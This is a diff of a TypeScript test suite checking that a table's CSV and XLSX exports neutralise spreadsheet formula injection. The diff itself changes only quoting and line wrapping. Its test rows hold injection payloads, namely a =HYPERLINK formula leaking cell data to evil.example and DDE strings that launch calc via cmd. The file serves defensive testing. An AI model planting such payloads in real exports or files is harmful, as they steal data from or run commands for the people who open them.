@@ -12,8 +12,8 @@ const table: ExportTable = {
   title: 'Vehicles',
   headers: ['Name', 'Phone', 'Note', 'Balance', 'Change', 'Count'],
   rows: [
-    [attack, '+919876543210', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-5', '-1,234.50', '365'],
-    ['-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '-0.5', '-4.5%', '0'],
+    [attack, '+919876543210', "@SUM(1+1)*cmd|' /C calc'!A0", '-5', '-1,234.50', '365'],
+    ["-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '-0.5', '-4.5%', '0'],
     ['=1+1\nsecond line', 'plain', 'a=b', '-', '12.50', '-1e3'],
   ],
 };
@@ -28,7 +28,9 @@ function xlsxPart(bytes: Uint8Array, name: string): string {
 describe('exports are not a weapon', () => {
   it('leads every CSV text a spreadsheet reads as a formula with a single quote, a vehicle named =HYPERLINK(...) first', async () => {
     const rows = (await (await toCsv(table)).text()).split('\r\n');
-    expect(rows[1]).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")","'+919876543210","'@SUM(1+1)*cmd|' /C calc'!A0",-5,"-1,234.50",365`);
+    expect(rows[1]).toBe(
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")","'+919876543210","'@SUM(1+1)*cmd|' /C calc'!A0",-5,"-1,234.50",365`,
+    );
     expect(rows[2]).toBe(`"'-2+3+cmd|' /C calc'!A0","'\t=1+1","'\r=1+1",-0.5,-4.5%,0`);
     // a formula with a second line is still a formula (papaparse's own pattern misses it)
     expect(rows.slice(3).join('\r\n')).toBe(`"'=1+1\nsecond line",plain,a=b,"'-",12.50,"'-1e3"`);
@@ -42,11 +44,13 @@ describe('exports are not a weapon', () => {
     const sheetXml = xlsxPart(bytes, 'xl/worksheets/sheet1.xml');
     expect(sheetXml).not.toMatch(/<f[ >]/);
     expect(sheetXml.match(/<c [^>]*>/g)!.every((cell) => cell.includes(' t="s"'))).toBe(true);
-    expect(xlsxPart(bytes, 'xl/sharedStrings.xml')).toContain('<t>=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click me&quot;)</t>');
+    expect(xlsxPart(bytes, 'xl/sharedStrings.xml')).toContain(
+      '<t>=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click me&quot;)</t>',
+    );
     const sheet = XLSX.read(bytes, { type: 'array', cellFormula: true }).Sheets.Sheet1!;
     expect(sheet.A2).toMatchObject({ t: 's', v: attack });
     expect(sheet.A2!.f).toBeUndefined();
-    expect(sheet.A3).toMatchObject({ t: 's', v: '-2+3+cmd|\' /C calc\'!A0' });
+    expect(sheet.A3).toMatchObject({ t: 's', v: "-2+3+cmd|' /C calc'!A0" });
     expect(sheet.B2).toMatchObject({ t: 's', v: '+919876543210' });
     // a number keeps the text the list shows, as the Excel export has always written it
     expect(sheet.D2).toMatchObject({ t: 's', v: '-5' });
